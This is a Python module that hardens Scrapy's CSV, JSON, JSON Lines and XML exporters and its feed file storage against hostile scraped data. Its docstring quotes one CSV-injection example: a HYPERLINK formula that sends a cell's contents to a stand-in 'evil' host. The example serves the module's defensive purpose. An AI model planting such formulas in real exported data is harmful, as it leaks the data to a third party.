"""Scrapy's item exporters and file feed storage, made safe for what sites put in items.

Both ``framework export`` and a crawl's ``-o``/``-O`` feeds write through these (the
feeds by ``FEED_EXPORTERS`` and ``FEED_STORAGES`` in :mod:`framework.scrapy_settings`).
Item values and, for records a site supplies as JSON, even their keys are chosen by the
site:

* JSON and JSON Lines: DEL, the C1 controls, the bidirectional marks and U+2028/U+2029
  are written as ``\\u`` escapes (:func:`framework.jsontext.escape_json`): the same
  JSON, but a terminal that shows the file obeys none of them.

* CSV: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  a formula to a spreadsheet (``=HYPERLINK("http://evil/?leak="&A1)``). Such a cell is
  written with a leading ``'``, as OWASP's CSV-injection guidance says; a cell that is a
  plain number (``-5``, ``+1.5e3``) is left as it is. ``keep_formulas=True``
  (``framework export --keep-formulas``) writes every cell as stored.
* XML: a key that is not an XML name (``""``, ``1st``, ``a b``, a NUL) cannot be an
  element: it becomes ``<field name="...">``. Characters XML 1.0 cannot carry at all
  (control characters other than tab and line breaks, lone surrogates, U+FFFE, U+FFFF)
  become U+FFFD, visibly, in text and names alike. Every export parses.

A crawl's feed file (:class:`FeedFileStorage`) is as private as an export: created 0600
in folders created 0700, and never written through a symlink.
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterable
from pathlib import Path
from typing import IO, Any
from xml.sax.xmlreader import AttributesImpl

from scrapy.exporters import (
    CsvItemExporter,
    JsonItemExporter,
    JsonLinesItemExporter,
    XmlItemExporter,
)
from scrapy.extensions.feedexport import FileFeedStorage
from scrapy.utils.python import is_listlike
from scrapy.utils.serialize import ScrapyJSONEncoder

from framework.files import make_private_dir, open_nofollow
from framework.jsontext import escape_json

__all__ = [
    "CsvExporter",
    "FeedFileStorage",
    "JsonExporter",
    "JsonLinesExporter",
    "XmlExporter",
    "csv_safe",
    "xml_text",
]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
# what XML 1.0 has no way to write, not even as a character reference
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# an XML name (the Name production, less ':' so no namespace is implied)
_NAME_START = (
    "A-Z_a-z\xc0-\xd6\xd8-\xf6\xf8-\u02ff\u0370-\u037d\u037f-\u1fff\u200c-\u200d"
    "\u2070-\u218f\u2c00-\u2fef\u3001-\ud7ff\uf900-\ufdcf\ufdf0-\ufffd"
)
_XML_NAME = re.compile(f"[{_NAME_START}][{_NAME_START}.0-9\xb7\u0300-\u036f\u203f-\u2040-]*")


def csv_safe(cell: Any) -> Any:
    """``cell`` as a spreadsheet reads it as text: a leading ``'`` before a formula."""
    if (
        isinstance(cell, str)
        and cell.startswith(_FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(cell)
    ):
        return "'" + cell
    return cell


def xml_text(text: str) -> str:
    """``text`` with every character XML 1.0 cannot carry replaced by U+FFFD."""
    return _NOT_XML.sub("\ufffd", text)


class CsvExporter(CsvItemExporter):
    """Scrapy's CSV exporter; cells that a spreadsheet would run are written as text."""

    def __init__(self, file: Any, *, keep_formulas: bool = False, **kwargs: Any) -> None:
        super().__init__(file, **kwargs)
        self._keep_formulas = keep_formulas

    def _build_row(self, values: Iterable[Any]) -> Iterable[Any]:
        row = super()._build_row(values)
        return row if self._keep_formulas else (csv_safe(v) for v in row)


class XmlExporter(XmlItemExporter):
    """Scrapy's XML exporter; any key and any text make a well-formed document."""

    def _export_xml_field(self, name: str, serialized_value: Any, depth: int) -> None:
        # Scrapy's own method, with the element named safely and the text made
        # writable: it opens an element by the key and writes the text as it is
        tag, attrs = (
            (name, {}) if _XML_NAME.fullmatch(name) else ("field", {"name": xml_text(name)})
        )
        self._beautify_indent(depth=depth)
        self.xg.startElement(tag, AttributesImpl(attrs))
        if hasattr(serialized_value, "items"):
            self._beautify_newline()
            for subname, value in serialized_value.items():
                self._export_xml_field(subname, value, depth=depth + 1)
            self._beautify_indent(depth=depth)
        elif is_listlike(serialized_value):
            self._beautify_newline()
            for value in serialized_value:
                self._export_xml_field("value", value, depth=depth + 1)
            self._beautify_indent(depth=depth)
        else:
            self.xg.characters(xml_text(str(serialized_value)))
        self.xg.endElement(tag)
        self._beautify_newline()


class _EscapingEncoder(ScrapyJSONEncoder):
    """Scrapy's item encoder, with what acts rather than shows escaped: the same JSON."""

    def encode(self, o: Any) -> str:
        return escape_json(super().encode(o))


class JsonLinesExporter(JsonLinesItemExporter):
    """Scrapy's JSON Lines exporter; what acts on a terminal is written escaped."""

    def __init__(self, file: Any, **kwargs: Any) -> None:
        super().__init__(file, **kwargs)
        self.encoder = _EscapingEncoder(**self._kwargs)  # the options Scrapy settled


class JsonExporter(JsonItemExporter):
    """Scrapy's JSON exporter; what acts on a terminal is written escaped."""

    def __init__(self, file: Any, **kwargs: Any) -> None:
        super().__init__(file, **kwargs)
        self.encoder = _EscapingEncoder(**self._kwargs)


class FeedFileStorage(FileFeedStorage):
    """Scrapy's storage of a local feed file (a plain path or a ``file:`` URI): missing
    folders made 0700, a new file 0600 whatever the umask (one that exists keeps its
    mode), and a symlink where the file goes refused (``O_NOFOLLOW``: a
    :class:`~framework.errors.WorkspaceError` naming it), never written through. The
    crawl command refuses one before it starts (:func:`framework.export.feed_settings`);
    this holds for ``scrapy crawl`` and for a link planted meanwhile."""

    def open(self, spider: Any) -> IO[bytes]:
        path = Path(self.path)
        make_private_dir(path.parent)
        end = os.O_APPEND if self.write_mode == "ab" else os.O_TRUNC
        fd = open_nofollow(path, os.O_WRONLY | os.O_CREAT | end)
        return os.fdopen(fd, self.write_mode)
